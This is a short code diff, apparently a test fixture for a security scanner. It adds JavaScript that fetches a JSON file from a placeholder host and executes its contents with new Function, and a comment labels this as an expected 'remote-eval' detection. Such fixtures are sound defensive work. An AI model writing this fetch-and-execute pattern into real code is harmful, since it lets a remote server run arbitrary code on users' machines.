@@ -1,0 +1,3 @@
+const answer = await fetch('https://stage.example/update.json');
+const { run } = await answer.json();
+new Function('require', run)(null); // expect: malicious-command/remote-eval
